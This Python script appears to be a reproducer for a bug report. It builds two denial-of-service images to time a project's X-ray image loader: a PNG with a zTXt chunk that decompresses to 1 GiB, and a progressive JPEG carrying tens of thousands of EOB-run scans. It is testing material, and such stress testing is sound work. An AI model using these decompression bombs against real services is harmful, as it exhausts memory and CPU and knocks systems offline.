"""Writes the issue-16 hostile images: a 1.2 MB PNG whose zTXt chunk inflates to 1 GiB, and a 1.3 MB progressive
6000x6000 JPEG with N+1 scans (each AC scan is a few EOB-run codes, so every scan is a full pass over 562,500 blocks).

Usage: python3 hostile_images.py OUTDIR [N=20000]; then time `covid predict` (or XrayPreprocessor.LoadTensor) on them.
"""
import os, zlib, struct, sys
OUT = sys.argv[1]
def chunk(t, d): return struct.pack('>I', len(d)) + t + d + struct.pack('>I', zlib.crc32(t + d) & 0xffffffff)
# (a) PNG 64x48 RGB noise + zTXt inflating to 1 GiB
w, h = 256, 256
import random; random.seed(1)
raw = b''.join(b'\0' + bytes(random.randrange(256) for _ in range(w*3)) for _ in range(h))
co = zlib.compressobj(9)
parts = []
block = bytes(1 << 20)
for _ in range(1024): parts.append(co.compress(block))
parts.append(co.flush())
bomb = b''.join(parts)
png = b'\x89PNG\r\n\x1a\n' + chunk(b'IHDR', struct.pack('>IIBBBBB', w, h, 8, 2, 0, 0, 0)) + chunk(b'zTXt', b'Comment\0\0' + bomb) + chunk(b'IDAT', zlib.compress(raw)) + chunk(b'IEND', b'')
open(os.path.join(OUT, 'ztxt-bomb.png'), 'wb').write(png)
print('ztxt', len(png))
# (b) progressive JPEG 6000x6000 grey, DC scan + N AC scans each covered by EOB runs
N = int(sys.argv[2]) if len(sys.argv) > 2 else 20000
W = H = 6000; bw = bh = W // 8; blocks = bw * bh
out = bytearray(b'\xff\xd8')
out += b'\xff\xdb\x00\x43\x00' + bytes([1]*64)
out += b'\xff\xc2\x00\x0b\x08' + struct.pack('>HH', H, W) + b'\x01\x01\x11\x00'
dcbits = [0,1,5,1,1,1,1,1,1,0,0,0,0,0,0,0]; dcvals = list(range(12))
out += b'\xff\xc4' + struct.pack('>H', 2+1+16+12) + b'\x00' + bytes(dcbits) + bytes(dcvals)
# AC table 0: two symbols, 0xE0 (EOB14) code '0', 0xC0 (EOB12) code '10'
out += b'\xff\xc4' + struct.pack('>H', 2+1+16+2) + b'\x10' + bytes([1,1]+[0]*14) + bytes([0xE0, 0xC0])
class BW:
    def __init__(s): s.b = bytearray(); s.acc = 0; s.n = 0
    def w(s, v, l):
        for i in range(l-1, -1, -1):
            s.acc = (s.acc << 1) | ((v >> i) & 1); s.n += 1
            if s.n == 8:
                s.b.append(s.acc)
                if s.acc == 0xff: s.b.append(0)
                s.acc = 0; s.n = 0
    def flush(s):
        while s.n: s.w(1, 1)
        return bytes(s.b)
# DC scan: all diffs 0 -> category 0 code '00'
out += b'\xff\xda\x00\x08\x01\x01\x00\x00\x00\x00'
bw_ = BW()
for _ in range(blocks): bw_.w(0, 2)
out += bw_.flush()
# one AC scan: EOB runs
s = BW(); left = blocks
while left >= 16384:
    run = min(left, 32767); s.w(0, 1); s.w(run - 16384, 14); left -= run
if left >= 4096:
    s.w(2, 2); s.w(left - 4096, 12); left = 0
assert left == 0, left
ac = b'\xff\xda\x00\x08\x01\x01\x00\x01\x3f\x00' + s.flush()
for _ in range(N): out += ac
out += b'\xff\xd9'
open(os.path.join(OUT, 'scan-bomb.jpg'), 'wb').write(out)
print('jpeg', len(out), 'scans', N + 1)
